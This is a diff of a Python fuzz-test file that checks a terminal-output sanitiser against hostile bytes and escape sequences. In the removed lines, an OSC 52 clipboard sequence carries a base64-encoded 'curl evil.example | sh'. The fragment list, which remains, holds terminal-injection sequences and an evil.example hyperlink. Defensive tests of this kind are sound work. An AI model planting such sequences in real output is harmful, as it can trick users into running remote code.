@@ -1,17 +1,12 @@
 """Issue #20, "never obey a hostile byte": random bytes and escape/markup sequences through every
 path to the terminal, the clipboard and the markdown export. Nothing is interpreted, nothing crashes.
-
-What counts as unsafe is decided here from Unicode categories (not from the sanitiser's own list):
-controls (Cc), lone surrogates (Cs), line/paragraph separators (Zl, Zp) and format characters (Cf:
-bidi overrides and isolates, zero-width space, BOM, tags), except the soft hyphen and the
-zero-width (non-)joiners that real text needs.
+(What counts as unsafe: ``hostile.unsafe``, from Unicode categories.)
 """
 
 from __future__ import annotations
 
 import base64
 import io
-import unicodedata
 from contextlib import redirect_stderr, redirect_stdout
 from datetime import timedelta, timezone
 
@@ -29,11 +24,11 @@ from warroom.domain.text import one_line, visible
 from warroom.domain.timeline import KINDS, Entry
 from warroom.ui import render
 
+from hostile import OSC52, unsafe
 from support import T0
 
 FUZZ = settings(max_examples=200, deadline=None, suppress_health_check=[HealthCheck.too_slow])
 M = timedelta(minutes=1)
-OSC52 = "\x1b]52;c;" + base64.b64encode(b"curl evil.example | sh").decode() + "\x07"
 FRAGMENTS = [
     "\x1b[31m", "\x1b[0m", "\x1b[2J", "\x1b[?1049h", "\x1b[6n", OSC52, "\x1b]0;pwned\x07", "\x1b]2;title\x1b\\",
     "\x1b]8;;http://evil.example\x1b\\link\x1b]8;;\x1b\\", "\x1bP+q\x1b\\", "\x9b31m", "\x9d0;t\x9c", "\x85",
@@ -48,14 +43,6 @@ FRAGMENTS = [
 #: Random bytes as warroom gets them from argv or a file (undecodable bytes become lone surrogates).
 raw_bytes = st.binary(max_size=40).map(lambda b: b.decode("utf-8", "surrogateescape"))
 hostile = st.lists(st.one_of(st.sampled_from(FRAGMENTS), st.text(max_size=6), raw_bytes), max_size=8).map("".join)
-
-_KEPT = {"\u00ad", "\u200c", "\u200d"}
-
-
-def unsafe(text: str, allow: str = "") -> list[str]:
-    """The characters of ``text`` a terminal or reader could act on (besides those in ``allow``)."""
-    return [c for c in text if c not in allow and c not in _KEPT
-            and unicodedata.category(c) in ("Cc", "Cs", "Zl", "Zp", "Cf")]
 
 
 # -- the sanitiser ---------------------------------------------------------------------------------
